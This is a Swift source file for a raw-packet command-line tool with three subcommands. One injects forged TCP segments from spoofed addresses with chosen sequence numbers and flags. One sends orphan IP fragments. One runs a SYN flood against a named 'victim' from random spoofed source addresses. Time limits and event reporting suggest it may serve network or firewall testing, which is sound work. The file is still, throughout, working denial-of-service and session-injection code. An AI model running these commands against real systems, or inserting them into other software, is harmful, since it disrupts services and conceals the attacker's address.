import ArgumentParser
import Glibc

/// The addresses and ports of forged packets.
struct ForgedEnds: ParsableArguments {
    @Option(help: "Forged source address.")
    var source: String

    @Option(help: "Forged source port.")
    var sourcePort: UInt16 = 0

    @Option(help: "Destination address.")
    var destination: String

    @Option(help: "Destination port.")
    var destinationPort: UInt16 = 0

    func addresses() throws(EndpointError) -> (source: SocketAddress, destination: SocketAddress) {
        let ends = (
            source: try SocketAddress(source, port: sourcePort),
            destination: try SocketAddress(destination, port: destinationPort)
        )
        guard ends.source.family == ends.destination.family else {
            throw EndpointError(what: "\(source) and \(destination) are of different IP versions", number: nil)
        }
        return ends
    }
}

/// TCP segments that no end of the session has sent.
struct Inject: ParsableCommand {
    static let configuration = CommandConfiguration(abstract: "Send forged TCP segments.")

    @OptionGroup var ends: ForgedEnds

    @Option(help: "Sequence numbers, one segment for each.")
    var sequence: [UInt32] = [0]

    @Option(help: "Acknowledgment number.")
    var acknowledgment: UInt32 = 0

    @Option(help: "Flags: some of fin,syn,rst,psh,ack.")
    var flags: String

    @Option(help: "Bytes of data.")
    var data = 0

    @Option(help: "How many times all segments are sent.")
    var repeats = 1

    func run() throws {
        guard let flags = RawPacket.tcpFlags(flags) else {
            throw ValidationError(
                "'\(flags)' are not TCP flags: write some of fin,syn,rst,psh,ack, separated by commas")
        }
        let (source, destination) = try ends.addresses()
        let sender = try RawSender(to: destination)
        for sequence in repeatElement(sequence, count: repeats).joined() {
            try sender.send(
                .tcp(
                    from: source, to: destination, sequence: sequence, acknowledgment: acknowledgment, flags: flags,
                    data: [UInt8](repeating: 0x5A, count: data)))
        }
        Report.event("injected", ["port": .number(Int(ends.destinationPort))])
    }
}

/// Fragments without the first one.
struct InjectFragments: ParsableCommand {
    static let configuration = CommandConfiguration(
        commandName: "inject-fragments", abstract: "Send the later fragments of datagrams without the first ones.")

    @OptionGroup var ends: ForgedEnds

    @Option(help: "Number of datagrams.")
    var count = 1

    @Option(help: "Protocol number.")
    var nextProtocol: UInt8 = 17

    func run() throws {
        let (source, destination) = try ends.addresses()
        let sender = try RawSender(to: destination)
        let data = [UInt8](repeating: 0x5A, count: 512)
        for number in 0..<count {
            for (offset, isLast) in [(UInt16(512), false), (1024, true)] {
                try sender.send(
                    .fragment(
                        from: source, to: destination, nextProtocol: nextProtocol,
                        identification: UInt16(truncatingIfNeeded: 4711 + number), offset: offset, isLast: isLast,
                        data: data))
            }
        }
        Report.event("injected", ["port": .number(Int(ends.destinationPort))])
    }
}

/// SYNs from changing addresses and ports.
struct Flood: ParsableCommand {
    static let configuration = CommandConfiguration(abstract: "Send SYNs from random addresses, or from one.")

    @Argument(help: "Address of the victim.")
    var address: String

    @Argument(help: "Port of the victim.")
    var port: UInt16

    @Option(help: "Number of SYNs.")
    var count = 20_000

    @Option(help: "Seconds after which it ends in any case.")
    var seconds = 20.0

    @Option(help: "First two bytes of the source addresses, or first four groups for IPv6.")
    var network = ""

    @Option(help: "One source address for all SYNs, instead of random ones.")
    var source: String?

    func run() throws {
        let destination = try SocketAddress(address, port: port)
        let sender = try RawSender(to: destination)
        var random = SystemRandomNumberGenerator()
        let deadline = monotonicSeconds() + seconds
        var sent = 0
        while sent < count, monotonicSeconds() < deadline {
            let number = UInt32.random(in: 0...UInt32.max, using: &random)
            let host =
                destination.isIPv4
                ? "\(number & 0xFF).\(max(1, number >> 8 & 0xFF) % 255)"
                : ":\(String(number & 0xFFFF, radix: 16)):\(String(number >> 16, radix: 16))"
            let separator = destination.isIPv4 ? "." : ":"
            let end = try SocketAddress(
                source ?? network + separator + host, port: UInt16.random(in: 1024...UInt16.max, using: &random))
            try sender.send(
                .tcp(
                    from: end, to: destination, sequence: UInt32.random(in: 0...UInt32.max, using: &random),
                    acknowledgment: 0, flags: 2))
            sent += 1
            // Gives CPU time to other processes.
            if sent % 200 == 0 { usleep(5_000) }
        }
        Report.event("flooded", ["sent": .number(sent)])
    }
}
